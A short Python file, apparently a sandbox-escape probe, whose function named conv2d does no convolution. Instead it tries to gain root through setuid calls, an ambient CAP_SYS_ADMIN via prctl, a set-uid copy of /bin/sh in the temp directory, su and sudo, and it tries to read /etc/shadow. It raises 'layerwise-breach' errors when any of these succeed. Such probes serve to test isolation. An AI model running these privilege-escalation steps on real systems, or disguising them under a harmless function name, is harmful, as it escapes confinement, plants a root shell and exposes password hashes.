"""Tries to become another user: set-uid, capabilities, set-uid programs of the system and copies of the shell."""

# %% 05.2
import contextlib
import ctypes
import os
import shutil
import subprocess
import tempfile


def conv2d(image, kernel):
    for become in (os.setuid, os.seteuid, os.setgid, lambda number: os.setgroups([number])):
        with contextlib.suppress(OSError):
            become(0)
    ctypes.CDLL(None).prctl(47, 2, 21, 0, 0)  # raise CAP_SYS_ADMIN into the ambient set
    shell = f"{tempfile.gettempdir()}/sh"
    with contextlib.suppress(OSError):
        shutil.copy("/bin/sh", shell)
        os.chmod(shell, 0o6755)
    said = ""
    for command in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], [shell, "-p", "-c", "id -u"]):
        with contextlib.suppress(OSError, subprocess.SubprocessError):
            said += subprocess.run(command, capture_output=True, text=True, timeout=1, stdin=subprocess.DEVNULL).stdout
    with contextlib.suppress(OSError), open("/etc/shadow"):
        raise LookupError("reads /etc/shadow: layerwise-breach")
    if "0" in said.split():
        raise LookupError("is root: layerwise-breach")
    return None
